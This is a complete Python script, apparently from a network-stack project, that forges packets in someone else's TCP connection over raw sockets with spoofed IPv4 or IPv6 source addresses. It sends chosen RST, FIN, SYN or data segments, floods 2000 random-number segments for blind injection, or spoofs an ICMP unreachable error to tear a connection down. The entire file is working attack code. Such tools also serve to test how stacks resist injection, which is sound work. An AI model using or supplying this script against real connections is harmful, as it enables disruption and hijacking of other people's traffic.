#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-2.0
"""forge.py SOURCE PORT DESTINATION PORT KIND [SEQUENCE [ACKNOWLEDGMENT]]

Send segments of somebody else's TCP connection. KIND is rst, fin, syn or data:
one segment with the numbers given; blind: 2000 segments of all kinds with
random numbers; unreachable: an ICMP error that quotes a segment from
DESTINATION to SOURCE. IPv4 or IPv6, as the addresses are.
"""
import ipaddress
import random
import socket
import struct
import sys

FIN, SYN, RST, PSH, ACK = 1, 2, 4, 8, 16
KINDS = {"rst": RST, "fin": FIN | ACK, "syn": SYN, "data": PSH | ACK}
source, destination = (ipaddress.ip_address(sys.argv[n]) for n in (1, 3))
sport, dport, kind = int(sys.argv[2]), int(sys.argv[4]), sys.argv[5]
numbers = [int(n) % 2**32 for n in sys.argv[6:]] + [0, 0]


def checksum(data):
    data += bytes(len(data) % 2)
    total = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while total >> 16:
        total = (total & 0xffff) + (total >> 16)
    return ~total & 0xffff


def segment(src, sp, dst, dp, seq, ack, flags, data=b""):
    head = struct.pack("!HHIIBBHHH", sp, dp, seq, ack, 5 << 4, flags, 1000, 0, 0)
    pseudo = src.packed + dst.packed + struct.pack("!II", len(head + data), socket.IPPROTO_TCP)
    return head[:16] + struct.pack("!H", checksum(pseudo + head + data)) + head[18:] + data


def packet(src, dst, protocol, payload):
    if src.version == 6:
        return (struct.pack("!IHBB", 6 << 28, len(payload), protocol, 64) +
                src.packed + dst.packed + payload)
    head = struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(payload), 1, 0, 64, protocol, 0)
    head += src.packed + dst.packed
    return head[:10] + struct.pack("!H", checksum(head)) + head[12:] + payload


family = socket.AF_INET if source.version == 4 else socket.AF_INET6
raw = socket.socket(family, socket.SOCK_RAW, socket.IPPROTO_RAW)


def send(protocol, payload):
    raw.sendto(packet(source, destination, protocol, payload), (str(destination), 0))


def forge(seq, ack, flags, data=b""):
    send(socket.IPPROTO_TCP,
         segment(source, sport, destination, dport, seq, ack, flags, data))


if kind == "blind":
    for n in range(2000):
        flags = (RST, RST | ACK, FIN | ACK, SYN, PSH | ACK, SYN | ACK)[n % 6]
        forge(random.getrandbits(32), random.getrandbits(32), flags,
              b"blind" if flags & PSH else b"")
elif kind == "unreachable":
    quoted = packet(destination, source, socket.IPPROTO_TCP,
                    segment(destination, dport, source, sport, random.getrandbits(32), 0, ACK))
    error = struct.pack("!BBHI", 3, 3, 0, 0) + quoted[:48]
    send(socket.IPPROTO_ICMP, error[:2] + struct.pack("!H", checksum(error)) + error[4:])
else:
    forge(*numbers[:2], KINDS[kind], b"forged" if kind == "data" else b"")
